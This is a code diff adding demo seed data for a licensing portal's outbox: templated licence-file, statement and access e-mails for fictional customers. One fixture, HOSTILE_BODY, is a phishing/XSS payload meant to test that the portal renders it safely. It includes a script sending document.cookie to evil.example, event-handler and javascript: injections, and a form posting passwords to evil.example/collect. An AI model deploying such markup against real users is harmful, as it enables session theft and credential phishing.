@@ -1,9 +1,181 @@
+/**
+ * Demo data: the outbox. Licence-file, statement, access and account e-mails
+ * for the demo customers over the past months, with HTML bodies as the product
+ * sends them, one deleted e-mail, and one hostile body (scripts, handlers,
+ * javascript: links, a tracking pixel, a form posting elsewhere, a refresh and
+ * CSS that overlays the page) that the portal must show harmlessly.
+ */
+import { emails } from './schema'
 import type { DemoStep } from './seed'
 
-/** Demo data: outbox e-mails. */
+export type DemoEmail = typeof emails.$inferInsert
+
+/** A 1x1 PNG, inline like the product's logo in real e-mails. */
+const LOGO =
+  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII='
+
+export const HOSTILE_SUBJECT = 'Action required: confirm your licensing portal session'
+
+const pad = (n: number) => String(n).padStart(2, '0')
+
+/** 'YYYY-MM-DD HH:mm:ss' (UTC) of `now` minus `days` days, at hh:mm. */
+export function daysAgo(now: Date, days: number, hh: number, mm: number): string {
+  const d = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), now.getUTCDate() - days, hh, mm, (days * 7) % 60))
+  return `${d.getUTCFullYear()}-${pad(d.getUTCMonth() + 1)}-${pad(d.getUTCDate())} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`
+}
+
+function monthName(now: Date, monthsBack: number) {
+  const d = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() - monthsBack, 1))
+  return d.toLocaleString('en-GB', { month: 'long', year: 'numeric', timeZone: 'UTC' })
+}
+
+function frame(title: string, inner: string) {
+  return `<div style="font-family: Arial, sans-serif; color: #1f2937; max-width: 640px">
+<p><img src="${LOGO}" alt="Licensing Portal" width="120" height="24"></p>
+<h1 style="font-size: 20px; color: #0d2a55">${title}</h1>
+${inner}
+<p style="font-size: 12px; color: #6b7280">This message was sent by the Licensing Portal. Please do not reply to it.
+Questions? <a href="https://support.example.com/requests/new">Open a support request</a>.</p>
+</div>`
+}
+
+function licenceFile(customer: string, host: string, hostId: string, products: [string, number, string][]) {
+  const rows = products
+    .map(([p, q, end]) => `<tr><td style="padding: 4px 8px">${p}</td><td style="padding: 4px 8px; text-align: right">${q}</td><td style="padding: 4px 8px">${end}</td></tr>`)
+    .join('\n')
+  return frame(
+    `Your licence file for ${host}`,
+    `<p>Dear ${customer} licence administrator,</p>
+<p>The licence file for host <strong>${host}</strong> (host ID <code>${hostId}</code>) is attached to this e-mail.
+Copy it to the licence server and restart the licence manager to use it.</p>
+<table style="border-collapse: collapse; border: 1px solid #d1d5db">
+<thead><tr><th style="padding: 4px 8px; text-align: left">Product</th><th style="padding: 4px 8px">Quantity</th><th style="padding: 4px 8px; text-align: left">Ends</th></tr></thead>
+<tbody>
+${rows}
+</tbody></table>
+<p>You can download the file again at any time under <a href="https://portal.example.com/activations-history">Manage Activations</a>.</p>`,
+  )
+}
+
+function statement(customer: string, month: string, aeu: number, cost: string) {
+  return frame(
+    `Elastic usage statement for ${month}`,
+    `<p>Dear ${customer} team,</p>
+<p>Your elastic usage statement for <strong>${month}</strong> is ready.</p>
+<ul>
+<li>Elastic units used: <strong>${aeu.toLocaleString('en-US')}</strong> AEU</li>
+<li>Charge: <strong>${cost}</strong></li>
+</ul>
+<p>The full statement with every usage session is in the portal under <a href="https://portal.example.com/statementv2">Elastic Statements</a>.</p>`,
+  )
+}
+
+function access(name: string, customer: string, role: string) {
+  return frame(
+    'Licensing Portal access',
+    `<p>Hello ${name},</p>
+<p>You have been given the role <strong>${role}</strong> for ${customer} in the Licensing Portal.</p>
+<p><a href="https://portal.example.com/home">Open the Licensing Portal</a></p>`,
+  )
+}
+
+function notice(title: string, paragraphs: string[]) {
+  return frame(title, paragraphs.map((p) => `<p>${p}</p>`).join('\n'))
+}
+
+const HOSTILE_BODY = `<meta http-equiv="refresh" content="0;url=https://evil.example/phish">
+<style>body { background: red } .overlay { position: fixed; inset: 0; z-index: 2147483647; background: #fff }</style>
+<div class="overlay" style="position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background: white; color: black">
+<h1>Your session has expired</h1>
+<p>Please sign in again to keep your licences.</p>
+</div>
+<script>document.title = 'pwned'; window.top.location = 'https://evil.example/?c=' + document.cookie</script>
+<img src="x" onerror="window.top.location='https://evil.example/onerror'" alt="broken">
+<img src="https://tracker.example/pixel.gif?u=admin%40acme.example" width="1" height="1" alt="">
+<p>Dear customer, we noticed an unusual sign-in. <a href="javascript:alert(document.cookie)">Verify your account</a>
+or <a href="https://evil.example/login" onclick="steal()">sign in here</a>.</p>
+<form action="https://evil.example/collect" method="post">
+<label>Password <input name="password" type="password"></label>
+<button type="submit">Confirm</button>
+</form>
+<iframe src="https://evil.example/frame" title="frame"></iframe>
+<object data="https://evil.example/x.swf"></object>
+<svg onload="alert(1)"><circle r="10"></circle></svg>
+<p style="font-weight: bold">Regards, Licensing Portal Security</p>`
+
+/** The demo outbox relative to `now` (e-mails spread over the past months). */
+export function demoEmails(now: Date = new Date()): DemoEmail[] {
+  const e = (accountId: string, days: number, hh: number, mm: number, subject: string, to: string, kind: string, body: string, deleted = false): DemoEmail => ({
+    accountId,
+    date: daysAgo(now, days, hh, mm),
+    subject,
+    to,
+    kind,
+    body,
+    deletedAt: deleted ? now.getTime() - 86_400_000 : null,
+  })
+  const acme = 'Acme Aerospace'
+  const borealis = 'Borealis Motors'
+  const list: DemoEmail[] = [
+    // 1000001 Acme Aerospace (Direct)
+    e('1000001', 2, 9, 15, 'Licence file for host acme-lic-01', 'admin@acme.example', 'licence-file', licenceFile(acme, 'acme-lic-01', '00155D0A1B2C', [['Mechanical Enterprise', 25, '2027-06-30'], ['Fluent Solver', 10, '2027-06-30']])),
+    e('1000001', 4, 14, 2, `Elastic usage statement for ${monthName(now, 1)}`, 'admin@acme.example, raj.patel@acme.example', 'statement', statement(acme, monthName(now, 1), 18_420, 'USD 9,210.00')),
+    e('1000001', 6, 11, 40, 'Your subscription renewal is due in 60 days', 'admin@acme.example', 'general', notice('Subscription renewal', ['Your lease subscription ends in 60 days.', 'Contact your account manager to arrange the renewal.'])),
+    e('1000001', 8, 8, 5, HOSTILE_SUBJECT, 'admin@acme.example', 'general', HOSTILE_BODY),
+    e('1000001', 9, 16, 30, 'Licence file for host acme-lic-02', 'raj.patel@acme.example', 'licence-file', licenceFile(acme, 'acme-lic-02', '00155D0A1B2D', [['Structures Premium', 5, '2027-03-31']])),
+    e('1000001', 12, 10, 0, 'You have been given access to the Licensing Portal', 'lena.fischer@acme.example', 'access', access('Lena Fischer', acme, 'Licensing Portal Viewer')),
+    e('1000001', 15, 13, 25, 'Elastic IP allow-list changed', 'admin@acme.example', 'general', notice('IP allow-list changed', ['The IP allow-list of your elastic licence server was changed by Adam Archer.', 'If you did not expect this change, contact support.'])),
+    e('1000001', 19, 9, 50, '+1 seat added to FSA order 4711', 'admin@acme.example', 'general', notice('FSA order updated', ['One seat of Mechanical Enterprise was added to order 4711 and charged to your Flexible Spending Account.'])),
+    e('1000001', 23, 15, 10, 'Licence file for host acme-cluster-head', 'raj.patel@acme.example', 'licence-file', licenceFile(acme, 'acme-cluster-head', '7A2F0C9911EE', [['HPC Pack', 64, '2027-12-31'], ['Fluent Solver', 32, '2027-12-31']])),
+    e('1000001', 27, 12, 0, 'Renewal quote for your lease licences', 'admin@acme.example', 'general', notice('Renewal quote', ['Your renewal quote Q-2291 is ready for review.', 'It is valid for 30 days.'])),
+    e('1000001', 33, 7, 45, `Elastic usage statement for ${monthName(now, 2)}`, 'admin@acme.example, raj.patel@acme.example', 'statement', statement(acme, monthName(now, 2), 16_004, 'USD 8,002.00')),
+    e('1000001', 36, 17, 20, 'Elastic credentials changed', 'admin@acme.example', 'general', notice('Elastic credentials changed', ['The PIN of your elastic licence server was changed.'])),
+    e('1000001', 41, 10, 35, 'Licence file for host acme-lic-01', 'admin@acme.example', 'licence-file', licenceFile(acme, 'acme-lic-01', '00155D0A1B2C', [['Mechanical Enterprise', 20, '2026-12-31']])),
+    e('1000001', 47, 9, 0, 'Your portal role changed to Licensing Portal Administrator', 'raj.patel@acme.example', 'access', access('Raj Patel', acme, 'Licensing Portal Administrator')),
+    e('1000001', 52, 14, 45, 'Scheduled maintenance of the licensing service', 'admin@acme.example, asc@acme.example', 'general', notice('Scheduled maintenance', ['The licensing service will be unavailable on Saturday between 02:00 and 04:00 UTC.'])),
+    e('1000001', 58, 11, 11, 'Licence file for host acme-lic-03', 'raj.patel@acme.example', 'licence-file', licenceFile(acme, 'acme-lic-03', 'D4E5F6A7B8C9', [['Electronics Desktop', 3, '2027-01-31']])),
+    e('1000001', 63, 8, 30, `Elastic usage statement for ${monthName(now, 3)}`, 'admin@acme.example, raj.patel@acme.example', 'statement', statement(acme, monthName(now, 3), 21_377, 'USD 10,688.50')),
+    e('1000001', 70, 16, 5, 'Renewal reminder: lease licences end soon', 'admin@acme.example', 'general', notice('Renewal reminder', ['Some of your lease licences end within 90 days.'])),
+    e('1000001', 77, 12, 50, 'You have been given access to the Licensing Portal', 'viewer@acme.example', 'access', access('Vera Vance', acme, 'Licensing Portal Viewer')),
+    e('1000001', 84, 9, 20, 'Licence file for host acme-lic-02', 'raj.patel@acme.example', 'licence-file', licenceFile(acme, 'acme-lic-02', '00155D0A1B2D', [['Structures Premium', 4, '2026-12-31']])),
+    e('1000001', 92, 10, 10, `Elastic usage statement for ${monthName(now, 4)}`, 'admin@acme.example, raj.patel@acme.example', 'statement', statement(acme, monthName(now, 4), 12_950, 'USD 6,475.00')),
+    e('1000001', 101, 15, 0, '-20% on multi-year renewals until the end of the quarter', 'admin@acme.example', 'general', notice('Multi-year renewals', ['Renew for three years and save 20% on your lease licences.'])),
+    e('1000001', 113, 8, 55, 'You have been given access to the Licensing Portal', 'asc@acme.example', 'access', access('Ashley Scott', acme, 'Support Coordinator')),
+    e('1000001', 124, 13, 40, `Elastic usage statement for ${monthName(now, 5)}`, 'admin@acme.example, raj.patel@acme.example', 'statement', statement(acme, monthName(now, 5), 9_870, 'USD 4,935.00')),
+    e('1000001', 138, 11, 5, 'Licence file for host acme-lic-01', 'admin@acme.example', 'licence-file', licenceFile(acme, 'acme-lic-01', '00155D0A1B2C', [['Mechanical Enterprise', 20, '2026-12-31']])),
+    e('1000001', 151, 9, 45, 'Welcome to the Licensing Portal', 'admin@acme.example', 'access', access('Adam Archer', acme, 'Licensing Portal Administrator')),
+    e('1000001', 30, 10, 0, 'Licence file for host acme-old-server', 'admin@acme.example', 'licence-file', licenceFile(acme, 'acme-old-server', '001122334455', [['Mechanical Enterprise', 2, '2026-06-30']]), true),
+
+    // 1000002 Borealis Motors (Channel)
+    e('1000002', 1, 8, 20, 'Licence file for host borealis-lic', 'partner@channel.example', 'licence-file', licenceFile(borealis, 'borealis-lic', 'AA11BB22CC33', [['Mechanical Pro', 8, '2027-04-30']])),
+    e('1000002', 5, 12, 0, `Elastic usage statement for ${monthName(now, 1)}`, 'partner@channel.example, fleet@borealis.example', 'statement', statement(borealis, monthName(now, 1), 4_210, 'EUR 2,105.00')),
+    e('1000002', 14, 9, 30, 'Your subscription renewal is due in 30 days', 'partner@channel.example', 'general', notice('Subscription renewal', ['Your lease subscription ends in 30 days.'])),
+    e('1000002', 21, 15, 15, 'Elastic IP allow-list changed', 'partner@channel.example', 'general', notice('IP allow-list changed', ['The IP allow-list of your elastic licence server was changed.'])),
+    e('1000002', 35, 10, 45, `Elastic usage statement for ${monthName(now, 2)}`, 'partner@channel.example, fleet@borealis.example', 'statement', statement(borealis, monthName(now, 2), 3_998, 'EUR 1,999.00')),
+    e('1000002', 44, 11, 0, 'Licence file for host borealis-lic', 'partner@channel.example', 'licence-file', licenceFile(borealis, 'borealis-lic', 'AA11BB22CC33', [['Mechanical Pro', 6, '2026-12-31']])),
+    e('1000002', 60, 14, 20, 'You have been given access to the Licensing Portal', 'partner@channel.example', 'access', access('Paolo Park', borealis, 'Licensing Portal Administrator')),
+    e('1000002', 66, 9, 5, `Elastic usage statement for ${monthName(now, 3)}`, 'partner@channel.example, fleet@borealis.example', 'statement', statement(borealis, monthName(now, 3), 5_120, 'EUR 2,560.00')),
+    e('1000002', 88, 16, 40, 'Scheduled maintenance of the licensing service', 'partner@channel.example', 'general', notice('Scheduled maintenance', ['The licensing service will be unavailable on Sunday between 01:00 and 03:00 UTC.'])),
+    e('1000002', 97, 8, 0, `Elastic usage statement for ${monthName(now, 4)}`, 'partner@channel.example, fleet@borealis.example', 'statement', statement(borealis, monthName(now, 4), 2_875, 'EUR 1,437.50')),
+    e('1000002', 120, 13, 10, 'Elastic credentials changed', 'partner@channel.example', 'general', notice('Elastic credentials changed', ['The PIN of your elastic licence server was changed.'])),
+    e('1000002', 145, 10, 30, 'Welcome to the Licensing Portal', 'partner@channel.example', 'access', access('Paolo Park', borealis, 'Licensing Portal Administrator')),
+
+    // 1000003 Cobalt Energy (Indirect: the list is not offered, the outbox still holds its mail)
+    e('1000003', 7, 10, 0, 'Licence file for host cobalt-lic', 'partner@channel.example', 'licence-file', licenceFile('Cobalt Energy', 'cobalt-lic', 'CC00DD11EE22', [['Fluent Solver', 2, '2027-02-28']])),
+    e('1000003', 40, 9, 0, 'Your subscription renewal is due in 60 days', 'partner@channel.example', 'general', notice('Subscription renewal', ['Your lease subscription ends in 60 days.'])),
+    // 1000004 Delta Labs, 1000005 Embargo Industries
+    e('1000004', 18, 12, 0, 'Welcome to the Licensing Portal', 'it@delta.example', 'access', access('Delta IT', 'Delta Labs', 'Licensing Portal Administrator')),
+    e('1000005', 25, 12, 0, 'Export compliance review of your account', 'legal@embargo.example', 'general', notice('Export compliance review', ['Your account is under export compliance review.'])),
+    e('1000005', 55, 11, 0, 'Licence file for host embargo-lic', 'legal@embargo.example', 'licence-file', licenceFile('Embargo Industries', 'embargo-lic', 'FF00FF00FF00', [['Mechanical Pro', 1, '2026-12-31']])),
+  ]
+  return list
+}
+
 export function emailsStep(): DemoStep {
   return {
     name: 'outbox e-mails',
-    run: () => {},
+    run: ({ tx }) => {
+      tx.insert(emails).values(demoEmails()).run()
+    },
   }
 }
